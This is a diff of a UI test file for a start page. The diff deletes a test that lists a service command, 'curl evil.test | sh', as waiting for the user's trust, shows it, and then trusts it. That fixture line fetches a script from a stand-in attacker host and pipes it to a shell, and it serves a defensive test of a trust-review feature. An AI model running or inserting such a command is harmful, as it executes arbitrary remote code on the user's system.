@@ -98,23 +98,6 @@ describeScreen("the start page", () => {
     await poll(() => unsaved.getByRole("listitem").allInnerTexts()).toEqual(["store edited as text"]);
   });
 
-  test("lists commands waiting for trust, shows each, and trusts it", async () => {
-    const services = { web: { ready: "curl evil.test | sh", image: "node:24" } };
-    await using window = await openScreen({}, { clones: { site: { svc: { services } } } });
-    const { screen, page } = window;
-    const waiting = reason(window, "Commands waiting for your trust");
-    await reads(waiting.getByRole("listitem"), /site\s+svc\.services/);
-    // It is not listed as a problem with the file as well.
-    expect(await reason(window, "Files with problems").count()).toBe(0);
-    const trust = waiting.getByRole("button", { name: /^Trust this value ?: svc.services$/ });
-    expect(await trust.getAttribute("aria-disabled")).toBe("true");
-    await waiting.getByRole("button", { name: /^Show ?: svc.services$/ }).press("Enter");
-    await reads(waiting.getByRole("figure", { name: "In the file" }), "curl evil.test | sh");
-    await trust.press("Enter");
-    await poll(() => screen.stored("site", "svc.services")).toEqual(services);
-    await reads(page.getByRole("main"), "Nothing needs attention");
-  });
-
   test("lists what changed since yesterday, live, with a link to all of it", async () => {
     await using window = await openScreen({ shop: {}, store: {}, web: {} });
     const { screen } = window;
